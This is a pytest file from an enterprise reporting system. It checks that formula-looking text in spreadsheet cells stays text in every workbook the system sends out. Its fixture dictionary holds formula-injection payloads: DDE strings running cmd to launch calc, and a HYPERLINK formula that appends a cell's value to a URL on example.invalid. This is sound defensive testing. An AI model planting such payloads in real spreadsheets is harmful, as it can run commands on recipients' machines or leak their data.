"""Formula-looking text an enterprise typed is accepted as text and never comes back as a live formula.

Issue 15 item 5: `=cmd|' /C calc'!A0` (DDE), `=HYPERLINK(...)`, `@SUM`, `+`, `-` in text cells were
written back as formulas into the templates the system sends out. Every workbook below is built from the
accepted list the way the system builds it (campaign/outgoing/store.py template_file, the next year's list,
the 汇总表 export, the assessment's scored list) and then scanned by the same package check intake uses:
no cell of any of them holds a formula, and the enterprise's text is there as text.
"""

from __future__ import annotations

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from campaign.assessment.rules import EnterpriseResult
from campaign.assessment.workbooks import write_scores_into_list
from campaign.calendar.clock import resolve_as_of
from campaign.config.model import load_config
from campaign.config.settings import get_settings
from campaign.db import models as m
from campaign.db.session import session_scope
from campaign.intake.core import process_file
from campaign.next_year.outputs import build_next_year_list
from campaign.next_year.store import prior_rows
from campaign.outgoing.store import template_file
from campaign.submissions.export import export_task_items
from campaign.validation.package import inspect_package
from campaign.workbook import schema as s
from campaign.workbook.generate import write_task_list
from notifications.channels import load_channels
from tests.support.filling import fill

CONFIG = load_config()
DANGEROUS = {
    "level2": "=cmd|' /C calc'!A0",
    "measures": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "remarks": "@SUM(1+1)*cmd|' /C calc'!A0",
    "overall_target": "+1+cmd|' /C calc'!A0",
    "gap": "-1+cmd|' /C calc'!A0",
}


@pytest.fixture
def accepted(initialized_home, tmp_path):
    tpl = write_task_list(CONFIG, CONFIG.enterprise("DDK001"), CONFIG.deliverable("task-list-2023"), tmp_path)

    def edit(wb, ws, col):
        row = s.FIRST_DATA_ROW + len(CONFIG.core_indicators)  # the first row the enterprise adds itself
        for key, text in DANGEROUS.items():
            cell = ws.cell(row, col[key])
            cell.value = text
            cell.data_type = "s"  # typed as text (as Excel stores '=... or a cell formatted as text)

    filled = fill(tpl, tmp_path / "DDK001_task-list-2023.xlsx", edit=edit)
    assert inspect_package(filled, "xlsx", ["xlsx"], 1 << 24).formula_count == 0  # text, not formulas, going in
    outcome = process_file(
        filled, CONFIG, resolve_as_of("2023-05-20"), load_channels(get_settings().apprise_config_path)
    )
    assert outcome.accepted, outcome.problems
    return initialized_home


def _no_formula_and_text_kept(path, expect_quoted: bool) -> set[str]:
    """Which of the enterprise's texts the workbook carries (each workbook carries the columns it needs)."""
    report = inspect_package(path, "xlsx", ["xlsx"], 1 << 26)
    assert report.problems == [] and report.formula_count == 0, (path.name, report.formula_cells)
    values = {c.value for ws in load_workbook(path).worksheets for r in ws.iter_rows() for c in r if c.value}
    quoted = {k for k, text in DANGEROUS.items() if "'" + text in values}
    raw = {k for k, text in DANGEROUS.items() if text in values}
    assert (quoted, raw)[not expect_quoted] and not (raw, quoted)[not expect_quoted], (path.name, quoted, raw)
    return quoted | raw


def test_every_workbook_sent_out_keeps_enterprise_formulas_as_text(accepted, tmp_path):
    home = accepted
    as_of = resolve_as_of("2024-01-10")
    sent = []
    with session_scope() as session:
        ent = session.scalars(select(m.Enterprise).where(m.Enterprise.code == "DDK001")).one()
        for deliverable in ("completion-2023", "progress-2023h1"):
            made = template_file(
                session, CONFIG, home, CONFIG.enterprise("DDK001"), CONFIG.deliverable(deliverable), ent.id, as_of
            )
            assert made is not None, deliverable
            sent.append(home / "outgoing" / deliverable / made.name)
        prior = prior_rows(session, CONFIG, 2024, as_of)
        nxt = build_next_year_list(
            CONFIG, CONFIG.enterprise("DDK001"), CONFIG.deliverable("task-list-2024"), prior.rows["DDK001"], 2023
        )
        nxt.save(tmp_path / "next.xlsx")
        export_task_items(session, "task-list-2023").save(tmp_path / "export.xlsx")
        stored = home / session.scalars(select(m.Submission.stored_path)).one()
    sent += [tmp_path / "next.xlsx", tmp_path / "export.xlsx"]
    carried = {path.name: _no_formula_and_text_kept(path, expect_quoted=True) for path in sent}
    assert carried["DDK001_progress-2023h1.xlsx"] == {"level2"}  # 任务 and 目标 only
    assert carried["next.xlsx"] == {"level2", "measures", "overall_target"}  # 存在差距 is recomputed for the new year
    assert carried["DDK001_completion-2023.xlsx"] == carried["export.xlsx"] == set(DANGEROUS)
    # The scored list is the enterprise's own file with SASAC's columns added: its text cells stay text cells.
    result = EnterpriseResult("DDK001", "示例", "商业一类", items=[], total=88.5)
    scored = write_scores_into_list(stored, result, tmp_path / "scored.xlsx")
    assert _no_formula_and_text_kept(scored, expect_quoted=False) == set(DANGEROUS)
